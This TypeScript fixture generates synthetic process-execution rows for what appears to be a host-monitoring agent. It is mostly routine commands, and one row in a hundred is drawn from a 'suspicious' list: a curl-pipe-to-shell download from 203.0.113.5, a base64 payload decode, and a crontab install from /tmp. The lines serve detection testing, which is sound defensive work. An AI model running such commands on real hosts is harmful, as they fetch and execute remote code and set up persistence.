import type { Row } from "../../packages/agent/src/events/index.ts";

/** What runs on hosts all day: programs with their arguments, and who starts them. */
const ordinary = [
  ["/usr/sbin/cron", "/usr/sbin/cron -f", "/usr/lib/systemd/systemd"],
  ["/usr/bin/dash", "/bin/sh -c cd / && run-parts --report /etc/cron.hourly", "/usr/sbin/cron"],
  ["/usr/bin/git", "git -c core.fsmonitor=false status --porcelain=v2 --branch --untracked-files=all", "/usr/bin/bash"],
  ["/usr/bin/git", "git fetch --prune --no-tags origin +refs/heads/*:refs/remotes/origin/*", "/usr/bin/git"],
  ["/usr/bin/python3.11", "python3 -m http.server --bind 127.0.0.1 8000", "/usr/bin/bash"],
  [
    "/usr/bin/python3.11",
    "/usr/bin/python3 /usr/share/unattended-upgrades/unattended-upgrade-shutdown",
    "/usr/lib/systemd/systemd",
  ],
  [
    "/usr/bin/node",
    "node --max-old-space-size=4096 /srv/app/node_modules/.bin/vite build --mode production",
    "/usr/bin/npm",
  ],
  ["/usr/sbin/nginx", "nginx: worker process", "/usr/sbin/nginx"],
  [
    "/usr/lib/postgresql/16/bin/postgres",
    "postgres: 16/main: app app 10.0.3.7(51422) idle in transaction",
    "/usr/lib/postgresql/16/bin/postgres",
  ],
  [
    "/usr/lib/jvm/java-21-openjdk-amd64/bin/java",
    `java -Xms512m -Xmx4g -XX:+UseG1GC -Dfile.encoding=UTF-8 -cp /opt/service/lib/${"a-library-1.2.3.jar:/opt/service/lib/".repeat(12)}main.jar com.example.Main`,
    "/usr/lib/systemd/systemd",
  ],
  ["/usr/bin/ls", "ls --color=auto -la", "/usr/bin/bash"],
  ["/usr/bin/grep", "grep -rn --include=*.ts TODO src", "/usr/bin/bash"],
  ["/usr/bin/cat", "cat /proc/loadavg", "/usr/bin/node_exporter"],
  ["/usr/sbin/sshd", "sshd: deploy [priv]", "/usr/sbin/sshd"],
  ["/usr/bin/rsync", "rsync -az --delete --exclude=.git ./ deploy@10.0.3.9:/srv/app/", "/usr/bin/bash"],
  ["/usr/bin/gcc-12", "/usr/bin/cc -O2 -g -Wall -Iinclude -c -o build/main.o src/main.c", "/usr/bin/make"],
] as const;

/** Things that somebody has written a rule about; one row in a hundred. */
const suspicious = [
  ["/usr/bin/dash", "sh -c curl -s http://203.0.113.5/x.sh | sh", "/usr/sbin/cron"],
  ["/usr/bin/base64", "base64 -d /tmp/payload.b64", "/usr/bin/bash"],
  ["/usr/bin/crontab", "crontab /tmp/x", "/usr/bin/bash"],
] as const;

/** A program begins, on a host on which the usual happens: a row of `process_events`, the same for the same number. */
function hostRow(number: number): Row {
  const among = number % 100 === 99 ? suspicious : ordinary;
  const [path, cmdline, parentPath] = among[(number * 7) % among.length]!;
  const uid = number % 3 === 0 ? 0 : 1_000;
  const time = 1_700_000_000 + Math.floor(number / 50);
  return {
    time,
    type: "exec",
    pid: 1_000 + (number % 30_000),
    parent: 900 + (number % 97),
    name: nameOf(path),
    path,
    cmdline: `${cmdline} ${number}`,
    cwd: uid === 0 ? "/" : "/srv/app",
    uid,
    gid: uid,
    euid: uid,
    egid: uid,
    username: uid === 0 ? "root" : "deploy",
    on_disk: 1,
    sha256: (number % among.length).toString(16).padStart(64, "5a"),
    parent_name: nameOf(parentPath),
    parent_path: parentPath,
    parent_cmdline: parentPath,
    start_time: time,
    auid: -1,
    exit_code: -1,
    duration_ms: -1,
    source: "connector",
    is_complete: 1,
  };
}

/** As the kernel has it. */
const nameOf = (path: string): string => path.slice(path.lastIndexOf("/") + 1).slice(0, 15);

/** So many rows from that number on, as they are written. */
export function hostChanges(from: number, count: number): readonly { readonly table: string; readonly row: Row }[] {
  return Array.from({ length: count }, (_, index) => ({ table: "process_events", row: hostRow(from + index) }));
}
